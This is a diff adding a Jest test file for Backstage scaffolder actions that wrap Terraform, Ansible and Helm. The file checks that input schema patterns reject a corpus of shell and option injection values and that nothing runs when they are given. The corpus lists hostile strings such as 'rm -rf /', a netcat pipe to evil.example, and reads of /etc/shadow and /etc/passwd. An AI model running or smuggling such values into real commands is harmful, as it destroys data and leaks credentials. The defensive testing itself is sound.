@@ -1,0 +1,159 @@
+import { TemplateAction } from '@backstage/plugin-scaffolder-node';
+import { helmConfig } from '../__testUtils__/helmWorkspace';
+import {
+  createTempDir,
+  iacConfig,
+  runAction,
+} from '../__testUtils__/testContext';
+import {
+  createTerraformWorkspace,
+  terraformCalls,
+  terraformConfig,
+} from '../__testUtils__/terraformWorkspace';
+import { createAnsiblePlaybookRunAction } from './ansiblePlaybookRun';
+import { createHelmReleaseUninstallAction } from './helmReleaseUninstall';
+import { createHelmReleaseUpgradeAction } from './helmReleaseUpgrade';
+import { createTerraformApplyAction } from './terraformApply';
+import { createTerraformDestroyAction } from './terraformDestroy';
+import { createTerraformPlanAction } from './terraformPlan';
+
+/** Shell injection and option injection, as a template user might type them. */
+const INJECTION_CORPUS = [
+  '; rm -rf /',
+  'x; rm -rf /',
+  '$(reboot)',
+  '${HOME}',
+  '`id`',
+  'a && b',
+  'a | nc evil.example 4444',
+  '-var-file=/etc/passwd',
+  '-chdir=/',
+  '--kubeconfig',
+  '--kubeconfig=/root/.kube/config',
+  '-i',
+  '--extra-vars=@/etc/shadow',
+  '../../etc/passwd',
+  '/etc/passwd',
+  'line\nbreak',
+  "x' OR '1'='1",
+];
+
+/** Base input of each action plus the fields that become arguments. */
+const cases: Array<{
+  id: string;
+  action: TemplateAction<any, any, any>;
+  base: Record<string, unknown>;
+  fields: string[];
+  arrayFields?: string[];
+  keyFields?: string[];
+}> = [
+  ...[
+    createTerraformPlanAction,
+    createTerraformApplyAction,
+    createTerraformDestroyAction,
+  ].map(create => ({
+    id: '',
+    action: create({ config: terraformConfig() }),
+    base: { workingDirectory: 'terraform' },
+    fields: ['workingDirectory', 'backend'],
+    keyFields: ['variables', 'sensitiveVariables', 'backendConfig'],
+  })),
+  {
+    id: '',
+    action: createAnsiblePlaybookRunAction({ config: iacConfig({}) }),
+    base: { playbook: 'site.yaml', hosts: ['web-1'] },
+    fields: ['playbook', 'inventory', 'remoteUser', 'limit'],
+    arrayFields: ['hosts', 'tags', 'skipTags'],
+    keyFields: ['extraVars', 'sensitiveExtraVars'],
+  },
+  {
+    id: '',
+    action: createHelmReleaseUpgradeAction({
+      config: helmConfig(createTempDir()),
+    }),
+    base: { releaseName: 'web', chart: 'chart' },
+    fields: [
+      'releaseName',
+      'namespace',
+      'chart',
+      'repository',
+      'chartName',
+      'version',
+      'waitTimeout',
+    ],
+  },
+  {
+    id: '',
+    action: createHelmReleaseUninstallAction({
+      config: helmConfig(createTempDir()),
+    }),
+    base: { releaseName: 'web' },
+    fields: ['releaseName', 'namespace', 'waitTimeout'],
+  },
+].map(c => ({ ...c, id: c.action.id }));
+
+function patternsOf(schema: any): string[] {
+  if (!schema || typeof schema !== 'object') {
+    return [];
+  }
+  return [
+    ...(typeof schema.pattern === 'string' ? [schema.pattern] : []),
+    ...Object.values(schema).flatMap(patternsOf),
+  ];
+}
+
+jest.setTimeout(30_000);
+
+describe.each(cases)(
+  '$id input',
+  ({ action, base, fields, arrayFields = [], keyFields = [] }) => {
+    it('puts a pattern on every field that becomes an argument, and the patterns reject the corpus', () => {
+      const properties = (action.schema?.input as any).properties;
+      for (const field of [...fields, ...arrayFields]) {
+        const patterns = patternsOf(properties[field]).map(
+          p => new RegExp(p, 'u'),
+        );
+        expect({ field, patterns: patterns.length }).toEqual({
+          field,
+          patterns: 1,
+        });
+        for (const value of INJECTION_CORPUS) {
+          expect({ field, value, accepted: patterns[0].test(value) }).toEqual({
+            field,
+            value,
+            accepted: false,
+          });
+        }
+      }
+    });
+
+    it('rejects the corpus in every argument field before anything runs', async () => {
+      const workspace = createTerraformWorkspace();
+      for (const value of INJECTION_CORPUS) {
+        const inputs = [
+          ...fields.map(field => ({ ...base, [field]: value })),
+          ...arrayFields.map(field => ({ ...base, [field]: [value] })),
+          ...keyFields.map(field => ({ ...base, [field]: { [value]: 'x' } })),
+        ];
+        for (const input of inputs) {
+          const result = await runAction(action, {
+            workspacePath: workspace,
+            input,
+          });
+          expect(result.error?.name).toBe('InputError');
+          expect(result.error?.message).toMatch(/^Invalid input to /);
+          expect(result.logs).toEqual([]);
+        }
+      }
+      expect(terraformCalls(workspace)).toEqual([]);
+    });
+
+    it('accepts the base input, so the rejections come from the injected values', async () => {
+      const result = await runAction(action, {
+        workspacePath: createTerraformWorkspace(),
+        input: base,
+      });
+      expect(result.error?.message ?? '').not.toMatch(/^Invalid input to /);
+    });
+  },
+);
